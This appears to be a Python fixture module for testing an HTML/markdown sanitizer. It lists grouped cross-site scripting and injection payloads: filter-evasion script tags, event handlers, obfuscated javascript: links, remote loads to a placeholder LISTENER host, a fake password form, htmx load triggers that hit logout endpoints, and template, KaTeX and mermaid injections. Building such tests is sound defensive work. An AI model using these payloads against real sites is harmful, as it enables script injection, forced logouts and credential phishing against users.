"""Texts that try to run a script, to reach another site or to change the page, grouped by the feature they abuse.

A script that runs sets ``window.ran``. ``LISTENER`` is a placeholder for the address of a server that must get no
request.
"""

L = "http://LISTENER"

SCRIPTS = [
    "<script>window.ran=1</script>",
    f'<script src="{L}/script.js"></script>',
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    '<script type="module">window.ran=1</script>',
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<template><script>window.ran=1</script></template>",
    "<xmp><script>window.ran=1</script></xmp>",
    "<style><img src=x onerror=window.ran=1></style>",
    "<textarea><script>window.ran=1</script></textarea><title></title><script>window.ran=1</script>",
    "</div></article></main><script>window.ran=1</script>",
    "<!--><script>window.ran=1</script>-->",
    "<![CDATA[<script>window.ran=1</script>]]>",
]
HANDLERS = [
    "<img src=x onerror=window.ran=1>",
    "<img/src=x/onerror=window.ran=1//",
    "<details open ontoggle=window.ran=1>more</details>",
    "<input autofocus onfocus=window.ran=1>",
    "<body onload=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<marquee onstart=window.ran=1>x</marquee>",
    '<a href="#" onclick="window.ran=1" onmouseover="window.ran=1">over</a>',
    '```"><img src=x onerror=window.ran=1>\nx\n```',
    '[title](https://example.org "x\\" onmouseover=\\"window.ran=1")',
    'https://example.org/"onmouseover="window.ran=1',
    '![" onerror="window.ran=1](/attachments/x/)',
    "| a |\n|---|\n| <img src=x onerror=window.ran=1> |",
]
ADDRESSES = [
    "[a](javascript:window.ran=1)",
    "[b](JaVaScRiPt:window.ran=1)",
    "[c](java&#9;script:window.ran=1)",
    "[d](&#106;avascript:window.ran=1)",
    "[e](\x01javascript:window.ran=1)",
    "<javascript:window.ran=1>",
    "[f](vbscript:window.ran=1)",
    "[g](data:text/html,<script>parent.ran=1</script>)",
    "[h][i]\n\n[i]: javascript:window.ran=1",
    '<a href="javascript&colon;window.ran=1">j</a>',
    '<form action="javascript:window.ran=1"><button autofocus>k</button></form>',
    "[l](blob:https://example.org/1)",
    "[m](\u202ejavascript:window.ran=1)",
    "[n](\uff4aavascript:window.ran=1)",
]
PICTURES = [
    f"![p]({L}/picture.png)",
    "![q](//LISTENER/relative.png)",
    "![r](/\\LISTENER/backslash.png)",
    "![s](/\t/LISTENER/tab.png)",
    "![t](/%2f/LISTENER/encoded.png)",
    "![u](/accounts/logout/)",
    "![v](/admin/)",
    "![w](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSI+PC9zdmc+)",
    f'<img srcset="{L}/set.png 2x">',
    f'<picture><source srcset="{L}/source.png"><img></picture>',
    f'<input type=image src="{L}/input.png">',
    f'<video poster="{L}/poster.png" src="{L}/video.mp4" autoplay></video>',
    f'<table background="{L}/table.png"><tr><td>x</td></tr></table>',
]
EMBEDDED = [
    '<svg onload="window.ran=1"><circle r=9 /></svg>',
    "<svg><script>window.ran=1</script></svg>",
    f'<svg><image href="{L}/svg.png" /><use href="{L}/use.svg#a" /></svg>',
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table></mtext></math>",
    '<math href="javascript:window.ran=1">x</math>',
    f'<iframe src="{L}/frame"></iframe>',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    f'<object data="{L}/object"></object><embed src="{L}/embed">',
    f'<meta http-equiv="refresh" content="0;url={L}/refresh">',
    f'<base href="{L}/"><link rel="stylesheet" href="{L}/style.css">',
    f'<form action="{L}/form"><input name=password><button>Log in</button></form>',
    "<dialog open>over everything</dialog>",
]
LOOKS = [
    f"<style>@import url({L}/import.css); body {{ display: none }}</style>",
    f'<p style="background: url({L}/background.png); position: fixed; inset: 0">x</p>',
    f'<div class="modal" id="composer" name="body" style="behavior: url({L}/x.htc)">x</div>',
]
HTMX = [
    f'<div hx-get="{L}/htmx" hx-trigger="load">x</div>',
    '<div hx-post="/accounts/logout/" hx-trigger="load">x</div>',
    '<div data-hx-get="/sidebar/" data-hx-trigger="load" data-hx-target="body">x</div>',
    '<div hx-on:load="window.ran=1" hx-on::after-request="window.ran=1" hx-vals="js:{a: window.ran=1}">x</div>',
]
TEMPLATES = [
    "{{ request.user.password }} {% include 'chat/page.html' %} {% debug %}",
    "${window.ran=1} #{window.ran=1} <%= window.ran=1 %> [[${window.ran=1}]]",
]
MATH = [
    "$\\href{javascript:window.ran=1}{x}$",
    f"$\\includegraphics{{{L}/math.png}}$",
    "$\\htmlData{hx-get=/}{x}$ $\\htmlId{composer}{x}$ $\\url{javascript:window.ran=1}$",
    "$\\text{<img src=x onerror=window.ran=1>}$",
    "$$\\def\\a{\\a\\a}\\a$$",
]
DIAGRAMS = [
    '```mermaid\ngraph TD\n  A["<img src=x onerror=window.ran=1>"] --> B\n  click A "javascript:window.ran=1"\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(http://LISTENER/theme.css);"}}%%\n'
    'graph TD\n  A["<img src=http://LISTENER/label.png onerror=parent.ran=1>"] --> B\n```',
    '```mermaid\ngraph TD\n  A@{ img: "http://LISTENER/node.png", label: "x", w: 60, h: 60 }\n```',
]
GROUPS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "pictures": PICTURES,
    "embedded": EMBEDDED,
    "looks": LOOKS,
    "htmx": HTMX,
    "templates": TEMPLATES,
    "math": MATH,
    "diagrams": DIAGRAMS,
}


def payloads(listener: str, *groups: str) -> list[str]:
    """The texts of some groups, or of all.

    Args:
        listener: host and port that replace ``LISTENER``.
    """
    chosen = [each for name in groups or GROUPS for each in GROUPS[name]]
    return [each.replace("LISTENER", listener) for each in chosen]
